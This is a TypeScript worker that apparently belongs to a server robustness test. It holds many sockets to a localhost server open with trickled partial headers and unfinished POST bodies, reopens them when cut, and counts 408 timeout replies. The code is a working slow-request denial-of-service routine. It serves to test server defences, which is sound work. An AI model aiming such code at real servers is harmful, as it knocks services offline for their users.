// Holds a number of connections open against one server, each sending a byte now and then and never a whole request:
// half of them headers, half of them a body. One that is cut off is opened again, for as long as there are openings left.
import { connect, type Socket } from 'node:net'
import { listenToParent } from './listen-to-parent.ts'

interface Needs {
  readonly url: string
  readonly sockets: number
}

const byteEveryMilliseconds = 1_000
const openingsForOne = 40
const counts = { opened: 0, cut: 0, answered408: 0, open: 0 }

const beginnings = [
  'POST /response HTTP/1.1\r\nHost: hotel.example\r\nX-Slow: ',
  'POST /response HTTP/1.1\r\nHost: hotel.example\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 9000\r\n\r\nresponse=',
]

listenToParent(async (message) => {
  if ('url' in (message as object)) await attack(message as Needs)
  return { ...counts }
})

async function attack({ url, sockets }: Needs): Promise<void> {
  const { port } = new URL(url)
  const held = new Set<Socket>()
  const first = Array.from({ length: sockets }, (_, at) => hold(Number(port), at, openingsForOne, held))
  setInterval(() => {
    for (const socket of held) socket.write('x')
  }, byteEveryMilliseconds)
  await Promise.all(first)
}

function hold(port: number, at: number, openings: number, held: Set<Socket>): Promise<void> {
  const socket = connect(port, '127.0.0.1')
  socket.setNoDelay(true)
  socket.on('error', () => {})
  socket.on('data', (heard: Buffer) => {
    if (heard.toString('latin1').includes(' 408 ')) counts.answered408++
  })
  socket.on('close', () => {
    if (!held.delete(socket)) return
    counts.cut++
    counts.open--
    if (openings > 1) setTimeout(() => void hold(port, at, openings - 1, held), 50)
  })
  return new Promise((resolve) => {
    socket.once('close', resolve)
    socket.once('connect', () => {
      held.add(socket)
      counts.opened++
      counts.open++
      socket.write(beginnings[at % beginnings.length] ?? '')
      resolve()
    })
  })
}
